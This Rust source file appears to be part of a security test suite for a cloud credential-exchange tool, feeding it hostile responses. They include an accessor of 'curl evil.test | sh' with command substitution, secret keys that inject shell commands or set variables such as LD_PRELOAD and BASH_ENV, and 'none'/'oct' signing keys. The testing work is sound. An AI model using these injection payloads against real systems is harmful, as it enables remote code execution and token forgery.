//! Malicious values, numbers and names.

use sandbox::Fault;
use serde_json::json;

use super::{Add, Attack, NO_ACCESSOR, NO_LIFE, NO_MEMBER, NO_NAMES, NO_NUL, NO_VALUE, NO_VARIABLE, answer};
use crate::faults::steps::{Exchange, Step};
use crate::hostile::answers::{password, refresh_token, with_element, with_member, with_value};
use crate::hostile::expected::{Kind, Value};
use crate::hostile::texts;

/// Values that try to have an effect.
pub(super) fn values(row: &mut Add<'_>) {
    let of = |characters: usize| "0123456789".repeat(characters / 10);
    let (long, large, too_large) = (of(10_000), of(100_000), of(140_000));
    for (name, value, text) in [
        ("that ends its quotes and runs a command", Value::Graphic, texts::BREAKOUT),
        ("that is an option", Value::Graphic, texts::OPTION),
        ("of patterns and braces", Value::Graphic, texts::GLOBS),
        ("with lines, profiles and commands of its own", Value::Any, texts::LINES),
        ("that moves the cursor", Value::Any, texts::TERMINAL),
        ("with a NUL in it", Value::Nul, "a\u{0}b"),
        ("of 10,000 characters", Value::Graphic, &*long),
        ("of 100,000 characters", Value::Large, &*large),
        ("of 140,000 characters", Value::TooLarge, &*too_large),
    ] {
        let text = text.to_owned();
        let what = answer(move |stage| {
            let step = stage.step;
            match (step, step.exchange(), value) {
                (Step::Identity | Step::Sts | Step::Mount | Step::Revocation | Step::AcrChallenge, ..)
                | (_, Exchange::Verify, _) => {
                    return Err(NO_VALUE);
                }
                (Step::Eks | Step::Gke | Step::Aks | Step::Subscriptions, ..) => return Err(NO_VARIABLE),
                (step, ..) if step.is_password() => {}
                (_, Exchange::Aws, Value::Nul) => return Err(NO_NUL),
                _ => {}
            }
            let carried = text.clone();
            let attack = Attack::answer(move |_, answer| with_value(step, answer, &carried));
            // A client token that nobody has issued is exported and not used.
            let command = (step == Step::Login).then_some("oidc-exchange vault --role ci");
            Ok(Attack { value: Some(text.clone()), command, ..attack })
        });
        row(&format!("a value {name}"), Kind::Value(value), what);
    }
}

/// Numbers and times outside of their range.
pub(super) fn numbers(row: &mut Add<'_>) {
    let lives = |seconds: serde_json::Value, time: &'static str| {
        answer(move |stage| {
            let (step, seconds) = (stage.step, seconds.clone());
            if matches!(
                step,
                Step::Identity
                    | Step::IdToken
                    | Step::Mount
                    | Step::Revocation
                    | Step::Discovery
                    | Step::Keys
                    | Step::AcrChallenge
                    | Step::Subscriptions
            ) {
                return Err(NO_LIFE);
            }
            Ok(Attack::answer(move |_, answer| match step.exchange() {
                Exchange::Azure if step == Step::AcrExchange => {
                    with_member(answer, "/refresh_token", &json!(refresh_token(&seconds, "c2ln")))
                }
                Exchange::Aws if step.is_password() => {
                    with_member(answer, &format!("{}/expiresAt", password(step)), &seconds)
                }
                Exchange::Aws => with_element(answer, "Expiration", time),
                Exchange::Gcp if matches!(step, Step::AccessToken | Step::Gke) => {
                    with_member(answer, "/expireTime", &json!(time))
                }
                Exchange::Gcp | Exchange::Azure => with_member(answer, "/expires_in", &seconds),
                Exchange::Vault if step == Step::Login => with_member(answer, "/auth/lease_duration", &seconds),
                Exchange::Vault | Exchange::Verify => with_member(answer, "/lease_duration", &seconds),
            }))
        })
    };
    row("a life that is below nothing", Kind::NoLife, lives(json!(-1), "-0001-01-01T00:00:00Z"));
    row("a life beyond every calendar", Kind::LongLife, lives(json!(u64::MAX), "99999-12-31T23:59:59Z"));
    let accessor = answer(|stage| {
        if stage.step != Step::Login {
            return Err(NO_ACCESSOR);
        }
        // An accessor is shown only if a later step fails.
        stage.sandbox.vault.aim(Step::Revocation.request(), Fault::status(400), None);
        Ok(Attack::answer(|_, answer| {
            with_member(answer, "/auth/accessor", &json!("a; curl evil.test | sh #\nFORGED $(touch PWNED)"))
        }))
    });
    row("an accessor that is a command line, and no revocation", Kind::Kept, accessor);
}

/// Keys of a secret that become variables' names.
pub(super) fn names(row: &mut Add<'_>) {
    let keys = |keys: Vec<&'static str>| {
        answer(move |stage| {
            if stage.step != Step::Read {
                return Err(NO_NAMES);
            }
            let keys = keys.clone();
            let attack = Attack::answer(move |_, answer| {
                let fields: serde_json::Map<_, _> =
                    keys.iter().map(|key| ((*key).to_owned(), json!("$(touch PWNED)"))).collect();
                with_member(answer, "/data/data", &json!(fields))
            });
            Ok(Attack { command: Some("oidc-exchange vault --role ci '=secret/production/db#*'"), ..attack })
        })
    };
    for name in ["PATH", "BASH_ENV", "ENV", "IFS", "PS4", "PROMPT_COMMAND", "LD_PRELOAD", "SHELLOPTS", "UID"] {
        row(&format!("a secret's key `{name}`, as a name"), Kind::BadName, keys(vec![name]));
    }
    row("a secret's keys that are one name", Kind::BadName, keys(vec!["a.b", "a b"]));
    row("a secret's key that is empty", Kind::BadName, keys(vec![""]));
    row("a secret's key that begins with a digit", Kind::BadName, keys(vec!["1; touch PWNED"]));
    row("a secret's key that is a command", Kind::Harmless, keys(vec!["A;touch PWNED;$(touch PWNED)\nA"]));
}

/// Members that would change how the other members are used.
pub(super) fn confusions(row: &mut Add<'_>) {
    let member = |at: Step, pointer: &'static str, value: serde_json::Value| {
        answer(move |stage| {
            if stage.step != at {
                return Err(NO_MEMBER);
            }
            let value = value.clone();
            Ok(Attack::answer(move |_, answer| with_member(answer, pointer, &value)))
        })
    };
    let mac = answer(|stage| {
        if !matches!(stage.step, Step::Sts | Step::Assertion) {
            return Err(NO_MEMBER);
        }
        Ok(Attack::answer(|_, answer| with_member(answer, "/token_type", &json!("mac"))))
    });
    row("a token of another type", Kind::Garbled, mac);
    let sys = member(Step::Mount, "/data/path", json!("sys/"));
    row("a mount that is not the path's", Kind::Refusal, sys);
    // A public key used as an HMAC secret is a known way to forge tokens.
    row("a key of the kind of shared secrets", Kind::Refusal, member(Step::Keys, "/keys/0/kty", json!("oct")));
    row("a key for tokens without a signature", Kind::Refusal, member(Step::Keys, "/keys/0/alg", json!("none")));
}
